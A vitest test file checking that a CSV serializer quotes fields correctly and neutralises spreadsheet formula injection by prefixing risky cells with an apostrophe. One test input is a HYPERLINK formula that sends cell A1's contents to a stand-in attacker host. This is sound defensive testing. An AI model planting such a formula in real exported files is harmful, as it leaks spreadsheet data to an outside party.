import { describe, expect, test } from 'vitest';
import { csvLine } from '../../api/csv.js';
import { fc } from '../support/arbitraries.js';

/** Reads one record as RFC 4180 says. */
const parse = (line: string): readonly string[] => {
  const cells: string[] = [];
  const rest = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  for (let match = rest.exec(line); match !== null; match = rest.exec(line)) {
    cells.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === '\r\n') return rest.lastIndex === line.length ? cells : expect.fail('goes on');
  }
  return expect.fail(`is not CSV: ${line}`);
};

describe('a line of CSV', () => {
  test.each([
    [['a', 'b'], 'a,b'],
    [['a b', 4711, -1.5, true], 'a b,4711,-1.5,true'],
    [['a,b', 'a"b', 'a;b', 'a\tb'], '"a,b","a""b","a;b","a\tb"'],
    [['a\nb', 'a\r\nb', ' a', 'a '], '"a\nb","a\r\nb"," a","a "'],
    [[undefined, '', 'ü'], ',,ü'],
  ])('is quoted where it must be: %j', (values, expected) => {
    expect(csvLine(values)).toBe(`${expected}\r\n`);
  });

  test.each([
    ['=1+1', "'=1+1"],
    ['+49301', "'+49301"],
    ['-5', "'-5"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\r=1', "'\r=1"],
    ['\n=1', "'\n=1"],
    ['＝1', "'＝1"],
    ['=HYPERLINK("https://evil.example?"&A1,"x")', `'=HYPERLINK("https://evil.example?"&A1,"x")`],
  ])('is no formula: %j', (value, expected) => {
    expect(parse(csvLine([value]))).toEqual([expected]);
  });

  test('is read as what was written, whatever that was, and begins no cell with a formula', () => {
    const text = fc.oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom('"', ',', '\r', '\n', '=', 'a', ' ') }),
    );
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (values) => {
        const read = parse(csvLine(values));
        expect(read.map((cell, index) => (cell === values[index] ? cell : cell.slice(1)))).toEqual(values);
        for (const cell of read) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
      }),
    );
  });
});
